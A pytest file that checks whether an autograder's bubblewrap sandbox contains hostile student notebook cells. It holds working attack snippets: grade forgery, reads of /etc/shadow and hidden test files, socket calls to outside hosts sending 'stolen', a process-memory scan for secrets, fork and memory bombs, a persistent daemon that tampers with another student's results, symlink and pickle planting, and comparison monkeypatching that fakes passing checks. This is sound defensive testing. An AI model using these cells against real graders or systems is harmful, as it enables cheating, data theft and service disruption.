"""Submissions that attack the grader, graded in one batch through the bwrap sandbox.

The batch is graded twice: through bwrap's warm path (each stage forked from a server that
imported TensorFlow once, then entering the sandbox bubblewrap built) and through its cold path
(each stage a fresh interpreter in that sandbox); every test holds for both.
Every attacker is the bptt_numpy reference plus one hostile cell, so whatever
the attack does not break still earns its points; two honest students are
graded in the same batch. Each test checks one attacker: no forged points, a
clear reason in its feedback, nothing written outside the output directory,
no process left running, and the honest students graded normally.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from autograder.batch import discover, grade_all
from autograder.grading import GradeOptions, grade_submission
from autograder.labspec import load_lab
from autograder.notebooks import solution_notebook, variant_notebook, write_notebook
from autograder.sandbox import Limits, SandboxUnavailable, make_sandbox
from autograder.sandbox.base import GiB

LAB = "bptt_numpy"
FULL = 12.5
TOKEN = "autograder-attack-daemon-7f3a"
#: In the grader's environment from before any stage starts: no stage may find it anywhere.
SECRET = "autograder-grader-secret-5d1e"
os.environ.setdefault("AUTOGRADER_TEST_SECRET", SECRET)
#: Both paths of the bwrap backend.
BWRAP_PATHS = ("bwrap", "bwrap-cold")

try:
    make_sandbox("bwrap")
    BWRAP_PROBLEM = None
except SandboxUnavailable as err:
    BWRAP_PROBLEM = str(err)
needs_bwrap = pytest.mark.skipif(BWRAP_PROBLEM is not None, reason=f"bwrap sandbox unavailable: {BWRAP_PROBLEM}")

# -- the hostile cells ---------------------------------------------------------------------
# Top-level statements are dropped at intake, so attacks run from a class body
# (executed at import) or from inside a graded function.

FORGE = '''
class _Forge:
    import json, os, pathlib
    here = pathlib.Path.cwd()  # OUT/<student>/stage1
    out = here.parents[1]
    forged = {"student": "forger", "score": 12.5, "max_score": 12.5, "status": "graded", "checks": []}
    steps = {s: {"status": "ok", "error": None} for s in ("contract", "step_forward")}
    for target in (here.parent / "results.json", out / "honest_a" / "results.json", out / "FORGED",
                   here / "manifest.json", pathlib.Path("/tmp/results.json")):
        try:
            target.write_text(json.dumps(forged))
        except OSError:
            pass
    (here / "artifacts" / "manifest.json").write_text(json.dumps({"steps": steps}))
    os._exit(0)
'''

READER = '''
def rnn_step_forward(x, h_prev, Wx, Wh, b):
    import json
    root = json.load(open("job.json"))["project_root"]
    report = []
    for path in (root + "/reference/bptt_numpy.py", root + "/assignments/bptt_numpy/checks/test_bptt.py",
                 root + "/assignments/bptt_numpy/checks/conftest.py", "/etc/shadow", "{other}",
                 "{other_extracted}", root + "/tests/test_attacks.py"):
        try:
            report.append(path + ": LEAKED " + open(path).read(200).replace("\\n", " "))
        except OSError as err:
            report.append(path + ": " + (err.strerror or type(err).__name__))
    raise RuntimeError("probe report | " + " | ".join(report))
'''

NETWORK = '''
def rnn_step_forward(x, h_prev, Wx, Wh, b):
    import socket
    report = []
    for address in (("127.0.0.1", {port}), ("1.1.1.1", 53), ("example.com", 80)):
        try:
            socket.create_connection(address, timeout=3).sendall(b"stolen")
            report.append(str(address) + ": CONNECTED")
        except OSError as err:
            report.append(str(address) + ": " + str(err))
    raise RuntimeError("network report | " + " | ".join(report))
'''

SNOOP = '''
def rnn_step_forward(x, h_prev, Wx, Wh, b):
    import mmap, os
    import numpy as np
    report = []
    status = {l.split(":")[0]: l.split(":", 1)[1].strip() for l in open("/proc/self/status")}
    report += [f"{k}={status.get(k)}" for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs")]
    report.append("uid=" + str(os.getuid()) + " gid=" + str(os.getgid()) + " groups=" + str(os.getgroups()))
    fds = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            fds.append(os.readlink("/proc/self/fd/" + fd))
        except OSError:
            pass
    report.append("sockets=" + str(sum(f.startswith("socket:") for f in fds)))
    import sys
    report.append("warm=" + str("tensorflow" in sys.modules))  # only the warm server imported it
    # The needles are kept masked (each byte XOR 0x55), and memory is unmasked into one scratch
    # buffer that is never scanned itself: so the only plain copies are ones this code did not make.
    masked = {bytes.fromhex(k): v for k, v in {NEEDLES}.items()}
    control = bytes(c ^ 0x55 for c in next(k for k, v in masked.items() if v == "CONTROL"))  # a plain copy, on purpose
    chunk = 1 << 23
    scratch = mmap.mmap(-1, chunk + 64)
    view = np.frombuffer(scratch, dtype=np.uint8)
    window = memoryview(scratch)
    own = (view.ctypes.data, view.ctypes.data + len(view))
    found, scanned = set(), 0
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    with open("/proc/self/mem", "rb", 0) as mem:
        for fields in regions:
            start, end = (int(v, 16) for v in fields[0].split("-"))
            if "r" not in fields[1] or (start < own[1] and own[0] < end):
                continue
            for at in range(start, end, chunk):
                try:
                    mem.seek(at)
                    got = mem.readinto(window[: min(end, at + chunk + 64) - at])
                except (OSError, ValueError, OverflowError):
                    break
                np.bitwise_xor(view[:got], 0x55, out=view[:got])
                scanned += got
                found.update(v for k, v in masked.items() if scratch.find(k, 0, got) >= 0)
    del control
    report.append(f"scanned={scanned}")
    report.append("FOUND " + ",".join(sorted(found)))
    raise RuntimeError("snoop report | " + " | ".join(report))
'''


#: What the snoop looks for in its own memory (it carries them masked, see ``masked``).
SNOOP_NEEDLES = {SECRET: "SECRET", "honest_a": "OTHER-STUDENT", "reader.ipynb": "OTHER-STUDENT", "snoop-control-9c2b": "CONTROL"}


def masked(text: str) -> str:
    """``text`` with every byte XOR 0x55, in hex: the snoop's source never holds a plain needle."""
    return bytes(c ^ 0x55 for c in text.encode()).hex()


def once_in_step(function: str, attack: str, times: int = 1) -> str:
    """A cell that wraps ``function``: the first ``times`` calls after the contract step run ``attack``.

    Later calls (and the contract step, which calls every function) behave like the
    reference, so one attack costs one step and the test stays fast. (A step may
    call a function twice: bptt_numpy's harvest retries without its stubs on error.)
    """
    body = "\n".join("            " + line for line in attack.strip().splitlines())
    return f'''
class _Once:
    global {function}
    original = {function}

    def {function}(*args, _original=original, **kwargs):
        import os, pathlib
        marker = pathlib.Path(os.environ["TMPDIR"]) / "attacks"
        done = len(marker.read_text()) if marker.exists() else 0
        if (pathlib.Path.cwd() / "artifacts" / "contract.json").exists() and done < {times}:
            marker.write_text("x" * (done + 1))
{body}
        return _original(*args, **kwargs)
'''


FORK_BOMB = once_in_step("rnn_step_forward", '''
import time
children = 0
while children < 100000:
    try:
        if os.fork() == 0:
            while True:
                time.sleep(60)
    except OSError as err:
        raise RuntimeError(f"fork refused after {children} children: {err}")
    children += 1
raise RuntimeError(f"fork bomb not stopped: {children} children")
''')

MEMORY_BOMB = once_in_step("rnn_forward", '''
hoard = []
while True:
    hoard.append(bytearray(64 * 1024 * 1024))  # zero-filled: every page touched
''', times=2)

FLOOD = once_in_step("rnn_backward", '''
import sys
line = "spam " * 200000 + "\\n"  # 1 MB
for _ in range(400):
    sys.stdout.write(line)
    sys.stderr.write(line)
return None
''')

STUBBORN_LOOP = once_in_step("rnn_forward", '''
while True:
    try:
        while True:
            pass
    except BaseException:  # swallows the grader's soft timeout too
        pass
''')

DAEMON = '''
class _Daemon:
    import os, sys, pathlib
    victim = pathlib.Path.cwd().parents[1] / "honest_b" / "results.json"
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            code = ("import sys, time\\n"
                    "for _ in range(120):\\n"
                    "    time.sleep(0.5)\\n"
                    "    for target in sys.argv[1:3]:\\n"
                    "        try: open(target, 'w').write('tampered')\\n"
                    "        except OSError: pass\\n")
            os.execv(sys.executable, [sys.executable, "-c", code, str(victim),
                                      str(victim.parents[1] / "DAEMON"), "{token}"])
        os._exit(0)
    os.wait()
'''

PLANTER = '''
class _Plant:
    global clip_by_global_norm
    original = clip_by_global_norm

    def clip_by_global_norm(*args, _original=original, **kwargs):
        import os, pathlib
        import numpy as np
        art = pathlib.Path.cwd() / "artifacts"
        if not any(art.glob("long_range.*")):  # plant only once the other steps have saved
            return _original(*args, **kwargs)
        (art / "step_forward.npz").unlink()
        os.symlink("/etc/passwd", art / "step_forward.npz")
        (art / "rnn_forward.npz").unlink()
        np.savez(art / "rnn_forward.npz", h=np.array([{"evil": 1}], dtype=object), allow_pickle=True)
        with open(art / "rnn_backward.npz", "wb") as big:
            big.truncate(300 * 1024 * 1024)
        steps = {s: {"status": "ok", "error": None} for s in ("contract", "step_forward", "rnn_forward")}
        (art / "manifest.json").write_text(__import__("json").dumps({"steps": steps}))
        return _original(*args, **kwargs)
'''

KILLER = '''
class _Killer:
    import os, signal
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
'''

LIAR = '''
class _Patch:
    import numpy, pytest
    numpy.allclose = lambda *a, **k: True
    numpy.testing.assert_allclose = lambda *a, **k: None
    pytest.approx = lambda *a, **k: True

class AlwaysEqual:
    def __eq__(self, other): return True
    def __array__(self, dtype=None, copy=None):
        import numpy
        return numpy.zeros((1,))

def rnn_step_forward(x, h_prev, Wx, Wh, b):
    return AlwaysEqual(), (x, h_prev, Wx, Wh, AlwaysEqual())
'''


class Listener:
    """A TCP server on the host's loopback that records any connection."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop = True
        self._thread.join(2)
        self.server.close()


def processes_with(token: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if token.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


@pytest.fixture(scope="module", params=BWRAP_PATHS)
def batch(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    if BWRAP_PROBLEM is not None:
        pytest.skip(f"bwrap sandbox unavailable: {BWRAP_PROBLEM}")
    lab = load_lab(LAB)
    root = tmp_path_factory.mktemp("attacks")
    subs, out = root / "submissions", root / "out"
    listener = Listener()
    cells = {
        "forger": FORGE,
        "reader": READER.replace("{other}", str(subs / "honest_a.ipynb")).replace(
            "{other_extracted}", str(out / "honest_a" / "stage1" / "submission.json")
        ),
        "network": NETWORK.replace("{port}", str(listener.port)),
        "forkbomb": FORK_BOMB,
        "membomb": MEMORY_BOMB,
        "flood": FLOOD,
        "looper": STUBBORN_LOOP,
        "daemon": DAEMON.replace("{token}", TOKEN),
        "planter": PLANTER,
        "killer": KILLER,
        "liar": LIAR,
        "snoop": SNOOP.replace("{NEEDLES}", repr({masked(k): v for k, v in SNOOP_NEEDLES.items()})),
    }
    write_notebook(solution_notebook(lab), subs / "honest_a.ipynb")
    write_notebook(solution_notebook(lab), subs / "honest_b.ipynb")
    for student, cell in cells.items():
        write_notebook(variant_notebook(lab, cell), subs / f"{student}.ipynb")
    options = GradeOptions(sandbox=request.param, limits=Limits(memory_bytes=1 * GiB, max_processes=256))
    started = time.monotonic()
    results = grade_all(discover(subs, LAB), lab, out, options, workers=2, progress=False)
    listener.close()
    return {
        "results": {r["student"]: r for r in results},
        "out": out,
        "wall_s": time.monotonic() - started,
        "path": request.param,
        "connections": listener.connections,
        "left_running": processes_with(TOKEN),
    }


def result(batch: dict[str, Any], student: str) -> dict[str, Any]:
    return batch["results"][student]


def messages(batch: dict[str, Any], student: str) -> str:
    feedback = (batch["out"] / student / "feedback.md").read_text()
    return feedback + "\n".join(c["message"] for c in result(batch, student)["checks"])


def step_error(batch: dict[str, Any], student: str, step: str) -> str:
    manifest = json.loads((batch["out"] / student / "stage1" / "manifest.json").read_text())
    return manifest["steps"][step]["error"] or ""


def points(batch: dict[str, Any], student: str, check_id: str) -> float:
    return next(c["points"] for c in result(batch, student)["checks"] if c["id"] == check_id)


def test_honest_students_graded_normally(batch: dict[str, Any]) -> None:
    for student in ("honest_a", "honest_b"):
        saved = json.loads((batch["out"] / student / "results.json").read_text())
        assert saved["student"] == student and saved["status"] == "graded"
        assert saved["score"] == FULL, [c for c in saved["checks"] if c["outcome"] != "passed"]
    assert not (batch["out"] / "FORGED").exists() and not (batch["out"] / "DAEMON").exists()


def test_forged_results_and_exit(batch: dict[str, Any]) -> None:
    r = result(batch, "forger")
    assert r["status"] == "graded" and r["score"] == 0.0
    assert "ended while importing the notebook (exit code 0)" in messages(batch, "forger")
    assert not (batch["out"] / "FORGED").exists()
    manifest = json.loads((batch["out"] / "forger" / "stage1" / "manifest.json").read_text())
    assert manifest["lab"] == LAB and manifest["steps"]["contract"]["status"] == "error"
    assert not (batch["out"] / "forger" / "stage1" / "artifacts" / "manifest.json").exists()


def test_reading_hidden_files_fails(batch: dict[str, Any]) -> None:
    error = step_error(batch, "reader", "step_forward")
    assert "probe report" in error and "LEAKED" not in error
    for name in ("reference/bptt_numpy.py", "checks/test_bptt.py", "/etc/shadow", "honest_a.ipynb", "submission.json"):
        assert f"{name}: No such file or directory" in error or f"{name}: Permission denied" in error, name
    assert "LEAKED" not in json.dumps(result(batch, "reader"))
    assert points(batch, "reader", "step_forward_values") == 0.0
    assert points(batch, "reader", "clip_scales_when_over") > 0  # the rest graded as usual


def test_network_is_unreachable(batch: dict[str, Any]) -> None:
    error = step_error(batch, "network", "step_forward")
    assert "network report" in error and "CONNECTED" not in error
    assert "Network is unreachable" in error or "Connection refused" in error
    assert batch["connections"] == 0
    assert points(batch, "network", "step_forward_values") == 0.0


def test_fork_bomb_is_bounded(batch: dict[str, Any]) -> None:
    error = step_error(batch, "forkbomb", "step_forward")
    assert "fork refused after" in error, error
    children = int(error.split("fork refused after ")[1].split()[0])
    assert children < 300
    assert points(batch, "forkbomb", "step_forward_values") == 0.0
    assert points(batch, "forkbomb", "clip_scales_when_over") > 0


def test_memory_bomb_is_bounded(batch: dict[str, Any]) -> None:
    error = step_error(batch, "membomb", "rnn_forward")
    assert "MemoryError" in error or "ended the process" in error, error
    assert points(batch, "membomb", "rnn_forward_values") == 0.0
    assert "rnn_forward" in messages(batch, "membomb")
    assert points(batch, "membomb", "step_forward_values") > 0
    assert points(batch, "membomb", "clip_scales_when_over") > 0


def test_output_flood_is_capped(batch: dict[str, Any]) -> None:
    r = result(batch, "flood")
    summary = {c["id"]: (c["outcome"], c["message"][:200]) for c in r["checks"]}
    assert r["status"] == "graded", r["error"]
    assert points(batch, "flood", "rnn_backward_dx") == 0.0, summary
    assert points(batch, "flood", "rnn_forward_values") > 0, summary
    assert (batch["out"] / "flood" / "results.json").stat().st_size < 1_000_000


def test_infinite_loop_is_killed(batch: dict[str, Any]) -> None:
    error = step_error(batch, "looper", "rnn_forward")
    assert "timed out after" in error, error
    assert "timed out" in messages(batch, "looper")
    assert points(batch, "looper", "rnn_forward_values") == 0.0
    assert points(batch, "looper", "rnn_backward_dx") > 0  # the steps after the hang still ran
    assert points(batch, "looper", "clip_scales_when_over") > 0


def test_daemon_dies_with_its_sandbox(batch: dict[str, Any]) -> None:
    assert batch["left_running"] == []
    time.sleep(1.5)  # the daemon would write every 0.5 s
    assert processes_with(TOKEN) == []
    assert not (batch["out"] / "DAEMON").exists()
    assert json.loads((batch["out"] / "honest_b" / "results.json").read_text())["score"] == FULL
    assert result(batch, "daemon")["score"] == FULL  # its own work is graded like anyone's


def test_planted_artifacts_are_rejected(batch: dict[str, Any]) -> None:
    text = messages(batch, "planter")
    assert points(batch, "planter", "step_forward_values") == 0.0
    assert "step_forward.npz is a symbolic link" in text
    assert points(batch, "planter", "rnn_forward_values") == 0.0
    assert "rnn_forward.npz holds pickled objects" in text
    assert points(batch, "planter", "rnn_backward_dx") == 0.0
    assert "over the" in text and "byte limit" in text
    assert points(batch, "planter", "clip_scales_when_over") > 0
    assert not (batch["out"] / "planter" / "stage1" / "artifacts" / "manifest.json").exists()


def test_killing_other_processes_changes_nothing(batch: dict[str, Any]) -> None:
    assert result(batch, "killer")["status"] == "graded"
    assert result(batch, "killer")["score"] == FULL


def test_patched_comparisons_and_lying_objects_score_nothing(batch: dict[str, Any]) -> None:
    assert points(batch, "liar", "step_forward_values") == 0.0
    assert points(batch, "liar", "step_forward_shapes") == 0.0
    assert points(batch, "liar", "rnn_forward_values") > 0


def test_a_stage_holds_nothing_of_the_grader_or_other_students(batch: dict[str, Any]) -> None:
    """No capability, not root, no socket of the fork server, no trace of the grader's environment or of
    another submission anywhere in its memory (the warm path's children share the server's memory)."""
    error = step_error(batch, "snoop", "step_forward")
    assert "snoop report" in error, error
    for field in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        assert f"{field}=0000000000000000" in error, error
    assert "NoNewPrivs=1" in error and "sockets=0" in error, error
    assert f"warm={batch['path'] == 'bwrap' and os.geteuid() == 0}" in error, error  # the path meant was taken
    if os.geteuid() == 0:
        assert "uid=0 " not in error and "groups=[]" in error, error
    assert int(error.split("scanned=")[1].split()[0]) > 20_000_000, error  # the interpreter's whole memory was read
    assert "FOUND CONTROL\n" in error + "\n", error  # the scan finds what is there, and nothing else
    assert points(batch, "snoop", "clip_scales_when_over") > 0


def test_batch_stays_within_budget(batch: dict[str, Any]) -> None:
    assert batch["wall_s"] < 150


def test_subprocess_backend_needs_explicit_opt_in(tmp_path: Path) -> None:
    lab = load_lab(LAB)
    notebook = write_notebook(solution_notebook(lab), tmp_path / "a.ipynb")
    r = grade_submission(notebook, "a", lab, tmp_path / "out", GradeOptions(sandbox="subprocess"))
    assert r["status"] == "error" and "--unsafe-no-sandbox" in r["error"]
    assert r["score"] == 0.0


def test_cli_refuses_without_sandbox(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from autograder.cli import main

    lab = load_lab(LAB)
    write_notebook(solution_notebook(lab), tmp_path / "subs" / "a.ipynb")
    code = main(["grade", str(tmp_path / "subs"), "--lab", LAB, "--out", str(tmp_path / "out"), "--sandbox", "subprocess"])
    assert code == 2
    assert "--unsafe-no-sandbox" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


@needs_bwrap
@pytest.mark.parametrize("form", ["-c", "-m"])
def test_unprivileged_and_isolated(tmp_path: Path, form: str) -> None:
    """The sandboxed process has no capabilities, is not root (when we are) and sees no network.

    ``-m``: a ``python -m MODULE`` stage, which the bwrap backend forks warm when it runs as root.
    """
    from autograder.sandbox import SandboxRequest

    probe = (
        "import os, socket, json\n"
        "status = {l.split(':')[0]: l.split()[1] for l in open('/proc/self/status') if l.startswith(('Cap', 'NoNewPrivs'))}\n"
        "print(json.dumps({'uid': os.getuid(), 'status': status, 'ifaces': sorted(os.listdir('/sys/class/net')) "
        "if os.path.exists('/sys/class/net') else [], 'pid': os.getpid(), "
        "'pids': sorted(int(p) for p in os.listdir('/proc') if p.isdigit())}))\n"
    )
    (tmp_path / "probe_module.py").write_text(probe)
    argv = [sys.executable, "-c", probe] if form == "-c" else [sys.executable, "-m", "probe_module"]
    process = make_sandbox("bwrap").start(
        SandboxRequest(argv=argv, env={"PATH": "/usr/bin:/bin"}, workdir=tmp_path, writable=[tmp_path])
    )
    assert process.wait(120) == 0, process.output()
    process.kill()
    from autograder.sandbox.warm_bwrap import WarmStage

    assert isinstance(process, WarmStage) == (form == "-m" and os.geteuid() == 0)
    seen = json.loads(process.output().strip().splitlines()[-1])
    assert seen["status"]["CapEff"] == "0000000000000000"
    assert seen["status"]["CapBnd"] == "0000000000000000" and seen["status"]["NoNewPrivs"] == "1"
    assert seen["pid"] < 10 and max(seen["pids"]) < 10  # a fresh pid namespace: nothing of the host in view
    assert seen["ifaces"] in ([], ["lo"])
    if os.geteuid() == 0:
        assert seen["uid"] != 0
